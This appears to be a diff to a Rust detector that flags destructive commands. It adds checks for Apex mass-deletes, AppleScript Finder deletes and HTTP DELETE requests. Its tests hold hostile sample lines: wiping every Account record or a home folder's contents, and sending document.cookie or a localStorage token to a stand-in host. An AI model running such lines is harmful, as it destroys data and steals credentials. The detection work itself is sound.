@@ -9,7 +9,9 @@ pub(super) fn order(text: &str) -> Option<String> {
     let found = graph_pattern(text)
         .or_else(|| mutation(text))
         .or_else(|| traversal(text))
-        .or_else(|| management(text));
+        .or_else(|| management(text))
+        .or_else(|| records(text))
+        .or_else(|| request(text));
     found.map(|what| format!("Orders a destruction: {what}.")).or_else(|| carried_out(text))
 }
 
@@ -59,6 +61,22 @@ fn management(text: &str) -> Option<String> {
     (destroys(first) && words.next().is_some()).then(|| format!("the command says `.{first}`"))
 }
 
+/// Apex: `delete [SELECT Id FROM Account];`, and AppleScript: `tell application "Finder" to delete every item`.
+fn records(text: &str) -> Option<String> {
+    let lower = text.to_lowercase();
+    let deletes = lower.starts_with("delete [select")
+        || lower.starts_with("tell application") && lower.contains(" delete ");
+    deletes.then(|| "the script deletes what it finds".to_owned())
+}
+
+/// Code that makes a request: `request({method: 'DELETE', path: '/zones/abc'})`.
+fn request(text: &str) -> Option<String> {
+    let (_, rest) = text.split_once("method")?;
+    let value = rest.trim_start_matches(['"', '\'', ':', '=', ' ']);
+    (value.starts_with("DELETE") && text.contains(['(', '{']))
+        .then(|| "the request's method is DELETE".to_owned())
+}
+
 /// What a browser keeps for a person.
 const KEPT: &[&str] = &["document.cookie", "localStorage", "sessionStorage", "indexedDB"];
 /// What a script of a page contacts a host with.
@@ -95,6 +113,9 @@ mod tests {
             "g.V().hasLabel('user').drop()",
             ".drop table Users",
             "() => fetch('https://drop.example.net/?' + document.cookie)",
+            "delete [SELECT Id FROM Account];",
+            "tell application \"Finder\" to delete every item of home",
+            "async () => api.request({method: 'DELETE', path: '/zones/abc'})",
             "new Image().src = 'https://drop.example.net/?' + localStorage.token",
         ] {
             assert!(order(text).is_some(), "{text}");
